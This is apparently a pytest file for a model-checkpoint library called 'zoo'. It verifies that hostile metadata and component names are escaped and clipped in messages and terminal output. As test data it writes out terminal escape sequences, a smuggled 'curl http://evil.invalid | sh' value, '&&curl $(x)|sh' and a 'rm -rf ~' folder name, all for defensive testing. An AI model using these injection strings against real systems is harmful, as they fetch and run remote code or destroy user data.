"""Text from files reaches messages and the terminal escaped and clipped: hostile metadata
and component names are inert.

(Once ``test_hardening.py``, by the items of issue 9.)
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

import zoo
from helpers import edit_metadata, split_file, tiny
from zoo import CheckpointError
from zoo.cli import main
from zoo.errors import printable, quoted

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # anything a terminal would act on


def test_printable_and_quoted_escape_controls_and_clip() -> None:
    hostile = "a\x1b[31mred\x1b]8;;http://x\x07link\x9b2J\u202eevil\n"
    shown = printable(hostile)
    assert not CONTROL.search(shown) and "\u202e" not in shown
    assert "\\x1b[31m" in shown and "\\x07" in shown and "\\u202e" in shown
    long = printable("x" * 10_000)
    assert len(long) < 200 and "9,880 more characters" in long
    assert quoted("y" * 10_000).startswith("'yyy") and len(quoted("y" * 10_000)) < 200


def test_a_long_or_hostile_component_name_gives_a_short_escaped_error() -> None:
    for name in ("q" * 10_000, "sdpa\x1b[2J\x1b]8;;http://evil\x07"):
        with pytest.raises(zoo.UnknownComponentError) as caught:
            zoo.build("gpt2-small", attention=name, device="meta")
        message = str(caught.value)
        assert len(message) < 800 and not CONTROL.search(message)


HOSTILE = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.invalid\x07click\x1b]8;;\x07",
    "[link=http://evil.invalid]click[/link]",
    "[/bold]",
    "[bold red]loud",
    "\x9b2J",
    "w" * 10_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_zoo_inspect_shows_hostile_metadata_as_inert_text(
    text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = zoo.save(tiny(), tmp_path / "m.safetensors", metadata={"note": text, text[:50]: "key"})
    assert main(["inspect", str(path)]) == 0
    out, err = capsys.readouterr()
    assert not CONTROL.search(out + err), (out + err)[:500]
    assert "note" in out and err == ""
    if "\x1b" in text:
        assert "\\x1b" in out  # shown escaped
    if text.startswith("["):
        assert text in out  # the markup is shown as text, not interpreted
    assert max(map(len, out.splitlines())) < 1000  # 10,000 characters are clipped


@pytest.mark.parametrize(
    "field",
    ["name", "plugin", "distribution", "version"],
)
def test_hostile_component_records_reach_messages_escaped(
    field: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    raw = zoo.save(tiny(), tmp_path / "m.safetensors").read_bytes()
    header, _ = split_file(raw)
    records = json.loads(header["__metadata__"]["zoo.components"])
    hostile = "zoo-modern; curl http://evil.invalid | sh #\x1b[2J"
    records["position"] = {"name": "sinusoidal-x", "plugin": "p", "distribution": "zoo-lm-x", "version": "1.0"}
    records["position"][field] = hostile if field != "name" else "sinusoidal-x"
    config = json.loads(header["__metadata__"]["zoo.config"])
    config["position"] = {"name": "sinusoidal-x" if field != "name" else hostile}
    if field == "name":
        records["position"]["name"] = hostile
    edited = edit_metadata(raw, zoo_components=json.dumps(records), zoo_config=json.dumps(config))
    path = tmp_path / "hostile.safetensors"
    path.write_bytes(edited)
    with pytest.raises(CheckpointError) as caught:
        zoo.load(path)
    message = str(caught.value)
    assert not CONTROL.search(message)
    assert "pip install zoo-modern;" not in message and "| sh" not in message.split("'")[0]
    if field == "distribution":
        assert "pip install" not in message and "not a valid distribution name" in message
    else:
        assert "pip install zoo-lm-x" in message
    assert main(["inspect", str(path)]) == 0
    out, err = capsys.readouterr()
    assert not CONTROL.search(out + err)


def test_commands_to_paste_are_quoted() -> None:
    """``zoo.errors.command`` builds every command a message shows: a value from a file
    or a path with shell syntax comes back as one quoted word, controls escaped."""
    from zoo.errors import command

    assert command("hf", "download", "org/x", "--revision", "main&&curl $(x)|sh") == (
        "`hf download org/x --revision 'main&&curl $(x)|sh'`"
    )
    assert command("rm", "-r", Path("/a b/c")) == "`rm -r '/a b/c'`"
    assert not CONTROL.search(command("x", "a\x1b[2Jb\n"))


def test_the_command_to_prepare_a_folder_is_quoted(tmp_path: Path) -> None:
    """A data folder whose name is shell syntax: the advice to prepare it quotes it."""
    from zoo.training import open_data

    folder = tmp_path / "my data; rm -rf ~"
    folder.mkdir()
    with pytest.raises(zoo.ZooError) as err:
        open_data(folder)
    assert f"`zoo data prepare TEXT -o '{folder}'`" in str(err.value)
